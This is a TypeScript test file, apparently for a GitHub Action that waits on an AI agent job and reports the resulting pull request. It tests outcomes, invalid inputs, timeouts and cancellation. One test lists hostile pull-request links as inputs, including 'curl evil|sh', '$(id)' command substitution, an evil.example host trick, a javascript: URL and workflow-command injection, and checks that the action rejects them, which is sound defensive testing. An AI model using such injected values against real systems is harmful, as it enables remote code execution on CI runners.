import { afterEach, expect, test } from 'vitest';
import type { Launched } from '../world/launcher.ts';
import { atOnce, type RunOptions, runAction } from '../world/runner.ts';
import { inTurn, type Reply, type StandInService, startService } from '../world/service.ts';
import { pullRequestOutputs } from './results.ts';
import { prompt, startScene } from './starting.ts';

const key = 'mint_test_key_0123456789';
const link = 'https://github.com/acme/docs/pull/12';
const active = {
  json: {
    id: 'job-1',
    status: 'active',
    source: { repository: 'https://github.com/acme/docs', ref: 'docs/webhooks' },
    model: 'sonnet',
    prLink: null,
  },
};
const ended = (status: string, prLink: string | null = null): Reply => ({
  json: { ...active.json, status, prLink },
});

let service: StandInService;
afterEach(() => service.close());

async function runJob(replies: Reply[], options: Partial<RunOptions> = {}) {
  service = await startService({ job: inTurn(...replies) });
  return runAction({
    ...options,
    with: {
      mode: 'job',
      'api-key': key,
      'project-id': 'acme-docs',
      'job-id': 'job-1',
      'base-url': service.url,
      'poll-interval-seconds': '0.05',
      ...options.with,
    },
  });
}

test('passes along the pull request of a job that completed', async () => {
  const run = await runJob([active, active, ended('completed', link)]);
  expect(run).toMatchObject({ exitCode: 0, errors: [], warnings: [], stderr: '' });
  expect(run.outputs).toEqual({
    ...pullRequestOutputs,
    job: JSON.stringify({ ...active.json, status: 'completed', prLink: link }),
    commentUrl: '',
  });
  expect(run.summary).toMatch(
    /^### ✅ The agent opened a pull request\n\n- Pull request: \[#\u200b12\]\(https:\/\/github\.com\/acme\/docs\/pull\/12\)\n- Repository: `https:\/\/github\.com\/acme\/docs`\n- Branch: `docs\/webhooks`\n- Model: `sonnet`\n- Duration: 0\.\d s since the wait began\n- Job: `job-1`, waited for by this \[workflow run\]\(https:\/\/github\.com\/acme\/docs\/actions\/runs\/4242\/attempts\/1\)\n$/,
  );
  expect(run.stdout.split('\n').map((line) => line.replace(/\d+\.\d s/, 'N s'))).toEqual([
    `::add-mask::${key}`,
    '::add-mask::ghs_standInToken0123456789',
    'Waiting up to 30 min for agent job job-1.',
    'Job is active.',
    'Job is completed after N s.',
    `The agent opened a pull request. Pull request: ${link}. Job job-1, N s since the wait began.`,
    '',
  ]);
  expect(service.requests).toHaveLength(3);
});

test.each([
  ['completed', 'no-changes', 0, /finished without a pull request/],
  ['archived', 'archived', 0, /was archived/],
  ['failed', 'failed', 1, /ran into an error that it could not recover from/],
])('a job that is %s has the outcome %s', async (status, outcome, exitCode, words) => {
  const run = await runJob([ended(status)]);
  expect(run).toMatchObject({ exitCode, outputs: { outcome, status, prLink: '', prNumber: '' } });
  expect(run.summary).toMatch(words);
  expect(run.errors).toHaveLength(exitCode);
  if (exitCode > 0) expect(run.errors[0]).toMatch(words);
});

test('invalid inputs are also listed in the job summary, unless `post-to` is `none`', async () => {
  const given = { 'project-id': '', 'job-id': '', 'timeout-minutes': 'a `long` | while' };
  const run = await runJob([], { with: given });
  expect(run).toMatchObject({ exitCode: 1, outputs: {} });
  expect(run.summary).toContain(`### ❌ The step did nothing

3 inputs are invalid:
- project-id: expected the project's identifier, and neither \`.\` nor \`..\`, but it is missing: the API keys page of the dashboard shows it
- timeout-minutes: expected a number of minutes above 0 and at most 14400, such as 1.5, but got "a \`long\` &#124; while"
- job-id: expected the job to wait for, or \`prompt\` to start one, but both are missing
`);
  await service.close();
  const silent = await runJob([], { with: { ...given, 'post-to': 'none' } });
  expect(silent).toMatchObject({ exitCode: 1, summary: '' });
});

test('fail-on decides which outcomes fail the step', async () => {
  const passed = await runJob([ended('failed')], { with: { 'fail-on': 'none' } });
  expect(passed).toMatchObject({ exitCode: 0, errors: [], outputs: { outcome: 'failed' } });
  await service.close();
  const failed = await runJob([ended('archived')], { with: { 'fail-on': 'archived' } });
  expect(failed).toMatchObject({ exitCode: 1, outputs: { outcome: 'archived' } });
});

test('a job that outlasts the step has timed out, and the message says how to keep waiting', async () => {
  const run = await runJob([active], { with: { 'timeout-minutes': '0.01' } });
  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'timed-out', status: 'active' } });
  expect(run.errors).toEqual([
    expect.stringMatching(
      /^The agent job had not ended when this step ran out of time\. Job job-1, .* The job may still be running\. To keep waiting, run the same step again\./,
    ),
  ]);
});

test('a job has also timed out if the service fails after its first answer', async () => {
  const run = await runJob([active, { status: 500 }], { with: { 'timeout-minutes': '0.01' } });
  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'timed-out', status: 'active' } });
});

test('a job that was never read is an error for any `fail-on`', async () => {
  const run = await runJob([{ status: 503 }], {
    with: { 'timeout-minutes': '0.01', 'fail-on': 'none' },
  });
  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: '', status: '' } });
  expect(run.errors[0]).toMatch(
    /^No response for agent job job-1 of project acme-docs after \d tr(y|ies), until the deadline\. /,
  );
});

test('an unknown status doesn’t end the wait, and is shown if it is a plain word', async () => {
  const run = await runJob([ended('queued'), ended('queued'), ended('archived')]);
  expect(run).toMatchObject({ exitCode: 0, outputs: { outcome: 'archived' } });
  expect(run.warnings).toEqual([
    `This action doesn't know the job's status "queued". It keeps waiting for a known one.`,
  ]);
  await service.close();
  const hostile = await runJob([ended('::error::x\n##[error]'), ended('archived')]);
  expect(hostile.warnings).toEqual([
    "This action doesn't know the job's status. It keeps waiting for a known one.",
  ]);
});

test.each([
  'https://github.com/o/r/pull/1"; curl evil|sh #',
  'https://github.com/o/r/pull/1$(id)`id`',
  'https://github.com@evil.example/o/r/pull/1',
  'javascript:alert(1)//github.com/o/r/pull/1',
  'https://github.com/o/r/pull/1\n::error::x',
  'http://github.com/o/r/pull/1',
])('the link %j is never an output', async (prLink) => {
  const run = await runJob([ended('completed', prLink)]);
  expect(run.outputs).toMatchObject({ outcome: 'pull-request', prLink: '', prNumber: '' });
  expect(JSON.parse(run.outputs.job ?? '')).toMatchObject({ status: 'completed', prLink: null });
  expect(run.warnings[0]).toMatch(/not a plain https URL/);
  expect(run.errors).toEqual([]);
  expect(run.summary).not.toContain('evil');
});

test('a field that is nested too deep, or too long, is left out alone', async () => {
  const nested = `${'['.repeat(100_000)}${']'.repeat(100_000)}`;
  const ref = 'b'.repeat(70_000);
  const run = await runJob([
    { body: `{"status":"completed","source":{"ref":"${ref}"},"odd":${nested}}` },
  ]);
  expect(run).toMatchObject({ exitCode: 0, errors: [], outputs: { outcome: 'no-changes' } });
  expect(JSON.parse(run.outputs.job ?? '')).toEqual({
    status: 'completed',
    source: { ref },
    prLink: null,
  });
  expect(run.summary).toContain(`- Branch: \`${'b'.repeat(199)}…\`\n`);
});

test.each<'SIGINT' | 'SIGTERM'>(['SIGINT', 'SIGTERM'])('%s ends the wait at once', async (name) => {
  let sent = 0;
  const run = await runJob([active], {
    with: { 'poll-interval-seconds': '30' },
    onOutput: (stdout, child) => {
      if (sent > 0 || !stdout.includes('Job is active')) return;
      sent = performance.now();
      child.kill(name);
    },
  });
  expect(performance.now() - sent).toBeLessThan(atOnce);
  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'cancelled', status: 'active' } });
  expect(run.errors).toEqual([`The step was cancelled (${name}).`]);
  expect(run.summary).toMatch(/^### 🚫 The wait for the agent job was cancelled\n/);
});

test('a stalled connection doesn’t delay a cancelled step', async () => {
  let killedAt = Number.NaN;
  const run = await runJob([{ fault: 'stall' }], {
    onOutput: (stdout, child) => {
      if (!stdout.includes('Waiting up to')) return;
      setTimeout(() => {
        killedAt = performance.now();
        child.kill('SIGTERM');
      }, 100);
    },
  });
  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'cancelled', status: '' } });
  expect(performance.now() - killedAt).toBeLessThan(atOnce);
});

test('a body that is cut off doesn’t end the step silently', async () => {
  const run = await runJob([{ fault: 'cut-off', json: active.json }, ended('archived')]);
  expect(run).toMatchObject({ exitCode: 0, outputs: { outcome: 'archived' } });
  expect(service.requests).toHaveLength(2);
});

test('a cancelled step says so in its comment', async () => {
  const scene = await startScene({ job: inTurn(active) });
  const run = await scene.runBundle({
    onOutput: (stdout, child) => {
      if (stdout.includes('Job is active')) child.kill('SIGINT');
    },
  });
  await scene.close();
  expect(run).toMatchObject({ exitCode: 1, outputs: { outcome: 'cancelled', jobId: 'job-1' } });
  expect(scene.comments()).toEqual([
    expect.stringMatching(
      / job=job-1 taken=\S+ -->\n### 🚫 The wait for the agent job was cancelled\n/,
    ),
  ]);
});

test('the first lines of the log say that a job is started', async () => {
  const scene = await startScene();
  const { stdout } = await scene.runBundle();
  await scene.close();
  expect(
    stdout.split('\n').map((line) => line.replace(/\d+\.\d s/, 'N s').replace(/http:\S+/, 'URL')),
  ).toEqual([
    '::add-mask::mint_test_key_0123456789',
    '::add-mask::ghs_standInToken0123456789',
    'Found pull request #1: the one of the event `pull_request`.',
    'Posted: URL',
    `Starting an agent job with a prompt of ${prompt.length} characters.`,
    'Started agent job job-1.',
    'Waiting up to 30 min for agent job job-1.',
    'Job is active.',
    'Job is completed after N s.',
    `The agent opened a pull request. Pull request: ${link}. Job job-1, N s since the wait began.`,
    '',
  ]);
});

/** When the process is killed (SIGKILL), before the run is attempted again. */
const moments = {
  'before its start': { method: 'POST', path: /comments$/, jobs: 0, exitCode: 1 },
  'once it is started': { method: 'PATCH', path: /comments\/\d+$/, jobs: 1, exitCode: 0 },
};

test.each(Object.entries(moments))(
  'a step that is killed %s starts no second job',
  async (_, { jobs, exitCode, ...request }) => {
    let started = 0;
    const scene = await startScene({
      start: () => {
        started += 1;
        return { status: 201, json: { id: 'job-1' } };
      },
    });
    let dying: Launched | undefined;
    scene.github.faults.push({ ...request, meanwhile: () => dying?.kill('SIGKILL') });
    const killed = await scene.runBundle({
      onSpawn: (child) => {
        dying = child;
      },
    });
    expect(killed.exitCode).toBe(null);
    expect(started).toBe(jobs);
    const next = await scene.runBundle({ env: { GITHUB_RUN_ATTEMPT: '2' } });
    await scene.close();
    expect(started).toBe(jobs);
    expect(next.exitCode).toBe(exitCode);
    // If the start is unknown, the error says so; if it is known, the log names the job.
    const message = exitCode === 0 ? next.stdout : next.errors[0];
    expect(message).toMatch(
      /An earlier attempt of this run may have started|This run has started the job before/,
    );
  },
);
